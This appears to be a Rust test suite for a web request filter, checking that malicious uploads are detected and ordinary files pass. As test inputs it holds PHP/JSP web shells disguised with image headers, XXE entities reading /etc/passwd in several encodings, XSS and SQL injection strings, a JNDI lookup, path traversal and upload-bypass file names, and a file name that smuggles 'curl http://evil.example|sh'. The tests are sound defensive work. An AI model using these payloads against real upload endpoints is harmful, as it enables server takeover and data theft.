//! Attacks in files and in other bytes, and ordinary files.

use super::{ESCAPED, SQL, check, field, json, named, part, part_and, serde_json, value};
use crate::send::Sent;

const ENTITY: &str =
    "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>";

/// A text in EBCDIC, with these bytes for `!` and `[` of its code page.
fn ebcdic(text: &str, (mark, bracket): (u8, u8)) -> Vec<u8> {
    let signs = |byte: u8| match byte {
        b' ' => 0x40,
        b'<' => 0x4c,
        b'>' => 0x6e,
        b'?' => 0x6f,
        b'"' => 0x7f,
        b'=' => 0x7e,
        b'.' => 0x4b,
        b'/' => 0x61,
        b':' => 0x7a,
        b'&' => 0x50,
        b';' => 0x5e,
        b'!' => mark,
        b'[' => bracket,
        _ => bracket + 1,
    };
    let byte = |byte: u8| match byte {
        b'a'..=b'i' => byte - b'a' + 0x81,
        b'j'..=b'r' => byte - b'j' + 0x91,
        b's'..=b'z' => byte - b's' + 0xa2,
        b'A'..=b'I' => byte - b'A' + 0xc1,
        b'J'..=b'R' => byte - b'J' + 0xd1,
        b'S'..=b'Z' => byte - b'S' + 0xe2,
        b'0'..=b'9' => byte - b'0' + 0xf0,
        _ => signs(byte),
    };
    text.bytes().map(byte).collect()
}

#[test]
fn markup_within_values_is_read() {
    let references: String = SQL.bytes().map(|byte| format!("&#{byte};")).collect();
    let element = format!("<a>{references}</a>");
    let attribute = format!("<a b='{references}'/>");
    let part_of = |text: &[u8]| part("name=\"x\"", "", text);
    let texts = [element.clone(), attribute, references, format!("\u{a0}<a><![CDATA[{SQL}]]></a>")];
    check(named(&texts, field), true);
    check(named(&texts, value), true);
    check(named(&texts, |text| part_of(text.as_bytes())), true);
    check(named(&texts, |text| json(&format!("{{\"x\":{}}}", serde_json(text)))), true);
    let soap = |text: &str| Sent::post("/", "text/xml", format!("<s><![CDATA[{text}]]></s>"));
    check(named([&element], soap), true);
    for page in [(0x5a, 0xba), (0x4f, 0x4a)] {
        let document = ebcdic(ENTITY, page);
        let sent = Sent::form("/page", &[("x", &document)]);
        check([("form".to_owned(), sent), ("part".to_owned(), part_of(&document))], true);
    }
    check(
        named(
            [
                "O&#39;Brien &amp; sons &#8212; a &#60; b",
                "<p>It&#39;s &#8220;quoted&#8221;; who&#39;s there?</p>",
                "Lo\u{a7}a",
                "<note><![CDATA[Fish & chips]]></note>",
            ],
            field,
        ),
        false,
    );
}

#[test]
fn arguments_among_binary_bytes_are_judged_to_their_end() {
    let query = "' UNION SELECT password FROM users-- x";
    let before: [&[u8]; 6] =
        [b"", b"%c3%a91", b"\xc3\xa91", b"\x80", b"%00", &b"%80\xff".repeat(150)];
    let mut cases = vec![];
    for mark in
        [&b"\xff\xd8\xff"[..], b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", b"PK\x03\x04", b"\x1f\x8b\x08"]
    {
        for before in before {
            let body = [mark, b"&id=", before, query.as_bytes(), b"\xff\x01\x02"].concat();
            for media_type in ["image/jpeg", "application/octet-stream"] {
                let sent = Sent::post("/", media_type, body.clone());
                cases.push((body.escape_ascii().to_string(), sent));
            }
        }
    }
    check(cases, true);
}

#[test]
fn attacks_in_uploaded_documents_are_found() {
    let object = format!("{{\"id\":\"{ESCAPED}\"}}");
    let mut cases = vec![];
    let mut add = |disposition: &str, media_type: &str, content: &[u8]| {
        let name = format!("{disposition} {media_type} {}", content.len());
        cases.push((name, part(disposition, media_type, content)));
    };
    let (sql, xxe) = (format!("<a><id>{SQL}</id></a>"), "<!DOCTYPE a SYSTEM 'http://e/x.dtd'><a/>");
    let include =
        "<a xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='file:///etc/x'/></a>";
    let utf_7 = "<?xml version='1.0' encoding='UTF-7'?>+ADwAIQ-DOCTYPE a";
    for name in ["a.xml", "blob", "a.svg", "a.bin"] {
        let disposition = format!("name=\"f\"; filename=\"{name}\"");
        add(&disposition, "application/octet-stream", xxe.as_bytes());
        add(&disposition, "text/xml", include.as_bytes());
        add(&disposition, "text/xml", utf_7.as_bytes());
        for page in [(0x5a, 0xba), (0x4f, 0x4a)] {
            add(&disposition, "text/xml", &ebcdic(ENTITY, page));
        }
        for is_little in [true, false] {
            let units = ENTITY.encode_utf16();
            let of = |it: u16| if is_little { it.to_le_bytes() } else { it.to_be_bytes() };
            add(&disposition, "", &units.flat_map(of).collect::<Vec<u8>>());
        }
    }
    add("name=\"f\"; filename=\"a.xml\"", "text/xml", sql.as_bytes());
    add("name=\"f\"; filename=\"a.xml\"", "", sql.as_bytes());
    add("name=\"f\"; filename=\"blob\"", "text/xml; charset=utf-7", b"+ADw-a");
    for blanks in ["\u{a0}", "\u{b}", "\u{200b}\u{3000}"] {
        add("name=\"f\"; filename=\"blob\"", "", format!("{blanks}{object}").as_bytes());
        add("name=\"f\"; filename=\"blob\"", "text/xml", format!("{blanks}{sql}").as_bytes());
    }
    check(cases, true);
}

#[test]
fn attacks_in_files_and_their_names_are_found() {
    let object = format!("{{\"id\":\"{ESCAPED}\"}}");
    let photo =
        [b"\xff\xd8\xff\xe0".to_vec(), vec![0xaa; 200_000], b"<?php echo 1;".to_vec()].concat();
    let decoys =
        [b"\xff\xd8<?printx><cfqueryx:><%abcdefghij>".repeat(9), b"<?php f();".to_vec()].concat();
    let mut cases = vec![];
    let mut add = |disposition: &str, media_type: &str, content: &[u8]| {
        let name = format!("{disposition} {media_type} {}", content.len());
        cases.push((name, part(disposition, media_type, content)));
    };
    for media_type in
        ["application/json", "application/octet-stream", "", "application/vnd.api+json"]
    {
        add("name=\"meta\"; filename=\"blob\"", media_type, object.as_bytes());
    }
    add("name=\"meta\"; filename=\"a.png\"", "application/json", object.as_bytes());
    add("name=\"meta\"; filename=\"blob\"", "text/plain", SQL.as_bytes());
    add("name=\"meta\"; filename=\"blob\"", "text/xml", format!("<a>{SQL}</a>").as_bytes());
    add(
        "name=\"f\"; filename=\"a.xml\"",
        "text/xml",
        b"<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>",
    );
    for (name, content) in [
        ("x.png", &b"<?php system($_GET['c']); ?>"[..]),
        ("x.gif", b"GIF89a;\n<?php system($_GET['c']); ?>"),
        ("x.jpg", b"\xff\xd8<?=`$_GET[0]`?>\xff\xd9"),
        ("x.jpg", &photo),
        ("x.jpg", b"\xff\xd8<%@ page import=\"java.util.*\" %>"),
        ("x", b"GIF89a<?php system(1); ?>"),
        ("x.png", b"\x89PNG<?if(1)system($_GET[0]);?>"),
        ("x.gif", b"GIF89a<?die(`$_GET[0]`);?>"),
        ("x.gif", b"GIF89a<?const A=\"x\";system(A);?>"),
        ("x.gif", b"GIF89a<?#\nsystem(1);?>"),
        ("x.png", b"<?xml:system($_GET[0]);?>"),
        ("x.jpg", b"\xff\xd8<%\0eval request(\"c\")%>"),
        ("x.jpg", &decoys),
        ("x.html", b"<script>alert(1)</script>"),
        ("x.png", b" <html><script>alert(1)</script></html>"),
        ("x.html", b"<p>a</p><img src=x onerror=alert(1)>"),
        (
            "x.svg",
            b"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"f()\"/>",
        ),
        ("x.svg", b"<svg><a href=\"javascript:alert(1)\">x</a></svg>"),
        ("x.xhtml", b"<html><script>alert(1)</script></html>"),
    ] {
        add(&format!("name=\"f\"; filename=\"{name}\""), "", content);
    }
    for name in [
        SQL,
        "<img src=x onerror=alert(1)>.png",
        "a.png;curl http://evil.example|sh",
        "$(id).png",
        "{{7*7}}.png",
        "${jndi:ldap://e/a}.png",
        "shell.php::$DATA",
        "shell.php:x",
        "shell.asp;.jpg",
        "shell.php.",
        "shell.php%00.png",
        "shell.php/",
        "shell.pHp5",
        "shell.php.jpg",
        "web.config",
        "shell.php:$i30:$INDEX_ALLOCATION",
        "shell.shtml",
        "=?utf-8?B?c2hlbGwucGhw?=",
        "shell.p\u{200b}hp",
        "shell.\u{ff30}\u{ff28}\u{ff30}",
        ".ssh/authorized_keys",
    ] {
        add(&format!("name=\"f\"; filename=\"{name}\""), "", b"x");
    }
    add("name=\"f\"; filename=\"x.png\"; filename*=utf-8''shell.php", "", b"x");
    add("name=\"f\"; filename*=utf-8''a.png", "", format!("\x01{SQL}").as_bytes());
    check(cases, true);
}

/// A body that is a file, with these headers.
fn upload(method: &'static str, path: &str, headers: &[(&str, &str)], body: &[u8]) -> Sent {
    let sent = Sent { method, ..Sent::get(path) };
    let sent = headers.iter().fold(sent, |sent, (name, value)| sent.with(name, value));
    Sent { body: body.to_vec(), ..sent }
}

#[test]
fn files_that_are_bodies_are_judged_like_parts() {
    let image = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec();
    let far = |code: &[u8]| [&image[..], &[0xaa; 100_000], code, &[0; 300]].concat();
    let php = b"<?php system($_GET['c']); ?>";
    let png = [("Content-Type", "image/png")];
    let octets = [("Content-Type", "application/octet-stream")];
    let mut attacks = vec![];
    for (types, code) in
        [(&png[..], &php[..]), (&octets, php), (&[], php), (&png, b"<?if(1)system($_GET[0]);?>")]
    {
        attacks.push(upload("PUT", "/up/x.png", types, &far(code)));
        attacks.push(upload("POST", "/up", types, &far(code)));
    }
    let unknown = [&b"\x81\x01".repeat(1_000), &php[..]].concat();
    attacks.push(upload("PUT", "/up/x.png", &[], &unknown));
    attacks.push(upload("POST", "/up", &[("X-File-Name", "x.jpg")], &unknown));
    attacks.push(upload(
        "POST",
        "/up",
        &[("Content-Disposition", "x; filename=\"a.gif\"")],
        &unknown,
    ));
    attacks.push(upload("PUT", "/x.mp4", &[("Content-Type", "video/mp4")], &unknown));
    // What begins like EBCDIC may be other bytes.
    attacks.push(upload("PUT", "/up/x.png", &[], &[&[0x81; 2_000], &php[..]].concat()));
    attacks.push(upload("PUT", "/x", &[], &[&b"a\0".repeat(1_000), &php[..]].concat()));
    for (name, value) in [
        ("Content-Disposition", "attachment; filename=\"shell.php\""),
        ("Content-Disposition", "attachment; filename=shell.php"),
        ("Content-Disposition", "attachment; filename*=utf-8''shell.p%68p"),
        ("Content-Disposition", "attachment; filename=\"../x.png\""),
        ("X-File-Name", "shell.php"),
        ("X-Filename", "../../x.png"),
        ("X-Filename", ".htaccess"),
        ("Slug", "shell.jsp"),
        ("Content-Location", "/shell.php"),
        ("Destination", "http://shop.example/shell.php"),
        ("Destination", "/dav/shell.asp;.jpg"),
        ("Destination", "/../../etc/x"),
    ] {
        let method = if name == "Destination" { "MOVE" } else { "POST" };
        attacks.push(upload(method, "/up", &[png[0], (name, value)], &image));
    }
    for path in [
        "/shell.php",
        "/up/shell.jsp%20",
        "/up/shell.aspx;.jpg",
        "/shell.JSP",
        "/fileserver/a.jsp",
        "/a.php::$DATA",
        "/x/web.config",
    ] {
        attacks.push(upload("PUT", path, &octets, b"hello"));
        attacks.push(upload("PUT", path, &[], &image));
        attacks.push(upload("PUT", path, &[("Content-Type", "text/plain")], b"hello"));
    }
    let shown = |all: Vec<Sent>| all.into_iter().map(|sent| (format!("{sent:.200?}"), sent));
    check(shown(attacks), true);
    let name = |value| [png[0], ("Content-Disposition", value)];
    check(
        shown(vec![
            upload("PUT", "/up/x.png", &png, &far(b"")),
            upload(
                "POST",
                "/wp-json/wp/v2/media",
                &name("attachment; filename=\"photo.jpg\""),
                &image,
            ),
            upload("POST", "/up", &[png[0], ("X-File-Name", "my.php-notes.png")], &image),
            upload("PUT", "/remote.php/dav/files/a/b.png", &png, &image),
            upload("MOVE", "/remote.php/dav/a", &[("Destination", "/remote.php/dav/b.txt")], b""),
            upload("PUT", "/api.php/items/1", &octets, b"hello"),
            upload("PUT", "/api.php", &[("Content-Type", "application/json")], b"{\"a\":1}"),
            upload(
                "PUT",
                "/x.php",
                &[("Content-Type", "application/x-www-form-urlencoded")],
                b"a=1",
            ),
            upload("DELETE", "/shell.php", &[], b""),
            upload("GET", "/x.php", &[("Content-Disposition", "inline")], b""),
            upload("PUT", "/backup.tar", &octets, &[&unknown[..], php].concat()),
            upload(
                "POST",
                "/rpc",
                &[("Content-Type", "application/x-protobuf")],
                b"\x0a\x03abc\x10\x01",
            ),
        ]),
        false,
    );
}

#[test]
fn ordinary_files_pass() {
    let noise: Vec<u8> = (0..50_000u32).map(|it| (it.wrapping_mul(7_919) >> 3) as u8).collect();
    let form = "multipart/form-data; boundary=B";
    let quoted = "multipart/form-data; boundary=\"B\"";
    let data: Vec<_> = (0..2_000).map(|id| format!("{{\"id\":{id},\"name\":\"n{id}\"}}")).collect();
    let data = format!("[{}]", data.join(","));
    let icon = b"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><style>.a{fill:#f00}</style><path class=\"a\" d=\"M0 0h24z\"/></svg>";
    let image = b"\x89PNG\r\n\x1a\n<?xpacket begin='\xef\xbb\xbf' id='W5M0'?><x:xmpmeta xmlns:x='adobe:ns:meta/'></x:xmpmeta><?xpacket end='w'?>";
    let cases = [
        part_and(quoted, "name=a", "", b"x", "\r\n"),
        part_and(form, "name=a", "", b"x", "\r\n\r\n"),
        part_and(form, "name=a", "", b"x", ""),
        part("name=f; filename=x.png; filename*=utf-8''x.png", "", b"x"),
        part("name=\"f\"; filename*=UTF-8''na%C3%AFve.png; filename=\"na_ve.png\"", "", b"x"),
        part("name=\"f\"; filename*=utf-8''na%C3%AFve.png", "image/png", &noise),
        part("name=\"f\"; filename=\"a.jpg\"", "image/jpeg", &noise),
        part("name=\"f\"; filename=\"data.json\"", "application/json", data.as_bytes()),
        part("name=\"f\"; filename=\"README.md\"", "text/markdown", b"```php\n<?php echo 1;\n```"),
        part("name=\"f\"; filename=\"a.svg\"", "image/svg+xml", icon),
        part("name=\"f\"; filename=\"a.png\"", "image/png", image),
        part("name=\"f\"; filename=\"O'Brien - CV (final).pdf\"", "", b"x"),
        part("name=\"f\"; filename=\"Tom & Jerry; part 2 | id.mp4\"", "", b"x"),
        part("name=\"f\"; filename=\"my.php-tutorial.pdf\"", "", b"x"),
    ];
    check(cases.into_iter().enumerate().map(|(at, sent)| (at.to_string(), sent)), false);
}
